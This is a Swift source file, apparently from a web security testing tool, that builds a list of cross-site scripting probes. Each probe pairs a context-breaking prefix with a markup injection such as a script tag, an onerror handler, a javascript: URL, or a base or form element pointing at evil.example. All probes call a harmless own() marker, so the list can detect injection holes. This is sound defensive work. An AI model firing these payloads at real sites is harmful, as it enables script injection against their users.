import Sekimori

/// Texts that would be more than text to a browser that reads them as markup: ways out of where a page writes a text,
/// before things that then run or show.
///
/// What they bring has the attribute `data-owned`, and calls `own()`: both are looked for.
enum Payloads {
    static let all: [String] = breaks.flatMap { way in things.map { way + $0 } }

    private static let breaks = [
        "", "\"", "'", ">", "\">", "'>", "\"/>", "</textarea>", "</title>", "</option></select>", "</pre></code>",
        "-->", "]]>", "\\\">", "&quot;>", "\u{600}\">", "\"\u{338}>",
    ]

    private static let things = [
        "<script data-owned>own()</script>", "<ScRiPt data-owned>own()</sCrIpT>",
        "<script data-owned src=/own></script>",
        "<img data-owned src=/x onerror=own()>", "<svg data-owned onload=own()>",
        "<svg data-owned><script>own()</script></svg>", "<svg data-owned><animate onbegin=own() dur=1s>",
        "<math data-owned><mtext></mtext><img src=/x onerror=own()></math>", "<body data-owned onpageshow=own()>",
        "<iframe data-owned srcdoc='<script>parent.own()</script>'></iframe>",
        "<a data-owned href=javascript:own()>x</a>", "<form data-owned action=//evil.example/><button autofocus>",
        "<input data-owned autofocus onfocus=own()>", "<details data-owned open ontoggle=own()>",
        "<video data-owned><source onerror=own()></video>", "<object data-owned data=javascript:own()></object>",
        "<embed data-owned src=javascript:own()>", "<link data-owned rel=stylesheet href=//evil.example/x.css>",
        "<meta data-owned http-equiv=refresh content='0;url=javascript:own()'>",
        "<base data-owned href=//evil.example/>", "<style data-owned>*{display:none}</style>",
        "<template data-owned><script>own()</script></template>", "<marquee data-owned onstart=own()>",
        "<p data-owned style=position:fixed;inset:0 onmouseover=own()>x</p>", " data-owned autofocus onfocus=own() x=",
        " data-owned onanimationstart=own() style=animation-name:x x=", "{{{formToken}}}<b data-owned>",
        "{{% CONTENT_TYPE: TEXT}}<b data-owned>", "&lt;b data-owned onclick=own()&gt;", "%3Cb data-owned%3E",
        "\\u003cscript data-owned\\u003eown()\\u003c/script\\u003e", "javascript:own()//",
        "<noscript><p title=\"</noscript><img data-owned src=/x onerror=own()>\">",
    ]

    /// So many at a time, in every place at once: each is read by itself wherever it stands.
    static func groups(of count: Int) -> [[String]] {
        stride(from: 0, to: all.count, by: count).map { Array(all[$0..<min($0 + count, all.count)]) }
    }
}
